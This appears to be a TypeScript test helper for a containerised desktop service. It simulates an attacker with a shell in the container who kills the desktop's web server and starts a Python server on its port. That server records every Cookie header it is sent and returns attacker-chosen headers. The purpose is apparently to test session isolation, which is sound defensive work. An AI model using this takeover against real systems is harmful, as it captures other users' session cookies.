// What a person with a shell in a desktop can make of its own port: the web server of the desktop is ended, and one takes its place
// that notes each cookie it is sent, sends cookies back, and serves a page of the attacker's choice.
import type Docker from 'dockerode';
import { comesTrue } from './eventually.ts';

export interface HostilePort {
  /** The Cookie headers that it was sent, in order; empty ones too. */
  cookies(): Promise<string[]>;
  /** What it sends with its page from now on. */
  sends(headers: readonly (readonly [string, string])[]): Promise<void>;
}

// Without the shell that starts it again, whose child waits for the first visitor.
const TAKE_OVER = `
parent=$(for each in /proc/[0-9]*; do
  if tr '\\0' ' ' < "$each/cmdline" 2>/dev/null | grep -Eq '^(perl|python3) .*session/(first-visit|web) '; then
    awk '/^PPid/ { print $2 }' "$each/status"; echo "\${each#/proc/}"
  fi
done)
kill -9 $parent
exec python3 -c "$SERVER"
`;

const SERVER = `
import http.server, json
seen, extra = [], []
class Page(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        if self.path == '/taken':
            body = json.dumps(seen).encode()
        else:
            seen.append(self.headers.get('cookie', ''))
            body = b'<!doctype html><title>a desktop</title><p>hello'
        self.send_response(200)
        self.send_header('content-type', 'application/json' if self.path == '/taken' else 'text/html')
        for name, value in extra: self.send_header(name, value)
        self.send_header('content-length', str(len(body)))
        self.end_headers()
        self.wfile.write(body)
    def do_POST(self):
        extra[:] = json.loads(self.rfile.read(int(self.headers['content-length'])))
        self.send_response(204)
        self.end_headers()
    def log_message(self, *_): pass
http.server.ThreadingHTTPServer(('', 6080), Page).serve_forever()
`;

/** Takes over the web port of a desktop nobody has visited yet, which is published at `hostPort`. */
export async function takeOverPort(container: Docker.Container, hostPort: number): Promise<HostilePort> {
  const exec = await container.exec({ Cmd: ['sh', '-c', TAKE_OVER], Env: [`SERVER=${SERVER}`], User: '1000:1000' });
  await exec.start({ Detach: true });
  const place = `http://127.0.0.1:${hostPort}`;
  const cookies = async (): Promise<string[]> => (await fetch(`${place}/taken`)).json() as Promise<string[]>;
  await comesTrue('the port is taken over', () => cookies().then(() => true, () => false));
  return {
    cookies,
    sends: async (headers) => void (await fetch(`${place}/`, { method: 'POST', body: JSON.stringify(headers) })),
  };
}
